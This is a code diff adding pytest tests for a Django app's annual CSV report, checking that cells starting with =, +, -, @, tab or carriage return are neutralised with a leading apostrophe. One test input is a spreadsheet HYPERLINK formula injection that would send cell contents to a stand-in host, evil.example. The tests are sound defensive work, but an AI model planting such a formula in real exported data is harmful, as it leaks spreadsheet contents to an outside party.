@@ -195,3 +195,36 @@ def test_the_pages_keep_a_fixed_number_of_queries_at_10_and_1000_records(client,
     _reports(990, start=10)
     assert Report.objects.count() == 1000
     assert queries_for(client, url) == at_10
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_never_starts_a_cell_with_a_formula(client, smo, start):
+    """Issue 45, item 6d: a reason typed as a formula is written as text (a leading
+    apostrophe); numbers stay numbers."""
+    reason = f'{start}HYPERLINK("http://evil.example/?"&A1,"see")'
+    services.adjustment_save(
+        acting_user=smo, period=YEAR, figure_key="idde.outfalls", amount=Decimal(-2), reason=reason
+    )
+    client.force_login(smo)
+    response = client.get(reverse("reports:annual_csv", args=["2026"]))
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
+    outfalls = next(row for row in rows if row[2] == "idde.outfalls")
+    kept = reason.strip()  # the service keeps the reason without surrounding blanks
+    assert outfalls[6] == ("'" + kept if kept[0] in "=+-@" else kept)
+    assert outfalls[5] == "-2"
+
+
+def test_safe_cell_leaves_text_and_numbers_alone():
+    from lockport_sw.core.csv_cells import safe_cell
+
+    assert safe_cell("Outfalls mapped") == "Outfalls mapped"
+    assert safe_cell("-3.5") == "-3.5"
+    assert safe_cell("-1+1") == "'-1+1"
+    assert safe_cell("=1+1") == "'=1+1"
+    assert safe_cell("\t=1") == "'\t=1" and safe_cell("\r=1") == "'\r=1"
+    assert safe_cell("@SUM(A1)") == "'@SUM(A1)" and safe_cell("+1") == "'+1"
+    assert safe_cell(None) == ""
